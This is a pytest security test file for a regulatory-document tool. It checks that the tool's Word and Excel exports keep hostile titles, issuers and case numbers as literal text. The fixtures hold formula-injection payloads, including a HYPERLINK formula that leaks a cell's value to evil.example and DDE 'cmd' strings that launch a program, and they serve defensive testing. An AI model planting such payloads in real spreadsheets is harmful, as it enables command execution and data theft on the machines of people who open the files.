"""Hostile text in the .docx/.xlsx exports, end to end: stored documents whose title, issuer and 文号 begin
with a spreadsheet formula (CSV/formula injection) or carry script and Markdown, through `normscope cleanup
--docx --xlsx`. No cell of any sheet may be a formula; the text stays literal.

openpyxl stores any str that begins with "=" as a formula (data_type "f"); ui/exports.py::_put forces text
that begins with =, +, -, @ to a string cell with Excel's quote prefix. Unit tests of _put's payloads:
tests/ui/test_exports.py::test_cleanup_xlsx_formula_text_stays_text, tests/ui/test_dossier_exports.py::
test_xlsx_formula_text_stays_text; literal hostile text in each .docx: tests/ui/test_exports.py::
test_cleanup_docx_hostile_text_is_literal, ::test_catalog_hostile_text_is_literal, tests/ui/
test_dossier_exports.py::test_docx_hostile_text_is_literal.
"""
from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook

from ingest.run import ingest
from ingest.store import Store
from tests.security.conftest import invoke
from tests.security.hostile import PAYLOAD
from ui.exports import dossier_xlsx

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "issuer": " =cmd|' /C calc'!A0",
    "doc_number": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NOTICE = """临江市测试局关于规范测试活动的通知

临测发〔2024〕1号

各区县测试部门：

一、从事测试活动的单位应当遵守本通知。{payload}
二、违反本通知的，由市测试局处五千元罚款。
三、本通知自2024年3月1日起施行，有效期五年。

临江市测试局
2024年2月1日
"""


@pytest.fixture(scope="module")
def exports(tmp_path_factory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("exports")
    (root / "a.txt").write_text(NOTICE.format(payload=PAYLOAD), encoding="utf-8")
    (root / "b.txt").write_text(NOTICE.replace("测试", "检验").format(payload="=1+1"), encoding="utf-8")
    db = root / "e.db"
    store = Store(db)
    ingest([root / "a.txt", root / "b.txt"], store, workers=1)
    store.close()
    with sqlite3.connect(db) as conn:
        first = conn.execute("select min(id) from documents").fetchone()[0]
        for table, key in (("documents", "id"), ("versions", "document_id")):
            conn.execute(f"update {table} set title = ?, issuer = ?, doc_number = ? where {key} = ?",
                         [FORMULAS["title"], FORMULAS["issuer"], FORMULAS["doc_number"], first])
    result = invoke("cleanup", "--db", db, "--docx", root / "清理目录.docx", "--xlsx", root / "清理目录.xlsx", "--json")
    assert result.exit_code == 0, result.output
    return root / "清理目录.docx", root / "清理目录.xlsx"


def assert_no_formula(book: Workbook) -> list[str]:
    """No formula anywhere; every text that Excel would read as one is a quoted string. Returns all texts."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
    return texts


def test_cleanup_xlsx_holds_no_formula(exports):
    texts = assert_no_formula(load_workbook(exports[1]))
    assert FORMULAS["title"] in texts and FORMULAS["doc_number"] in texts  # the issuer column reads the metadata


def test_cleanup_docx_keeps_the_text_literal(exports):
    document = Document(str(exports[0]))
    text = "\n".join([p.text for p in document.paragraphs]
                     + [c.text for t in document.tables for row in t.rows for c in row.cells])
    assert FORMULAS["title"] in text
    assert not document.inline_shapes  # nothing the text could have turned into a picture or a link


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", " =", "\t=", "\n@", "\r\n+"])
def test_dossier_xlsx_holds_no_formula_whatever_the_lead(tmp_path, lead):
    payload = lead + "cmd|' /C calc'!A0"
    result = {"source": "案卷.zip", "case_no": payload, "party": payload, "party_type": "法人",
              "fine": 5000, "kinds": ["罚款"], "score": {"total": 90, "grade": "优秀", "deductions": []},
              "findings": [{"id": "D501-1", "rule": "D501", "severity": "error", "title": payload,
                            "message": payload, "evidence": payload, "basis": payload, "file": payload}]}
    texts = assert_no_formula(load_workbook(dossier_xlsx([result], tmp_path / "汇总.xlsx")))
    assert payload.strip() in texts
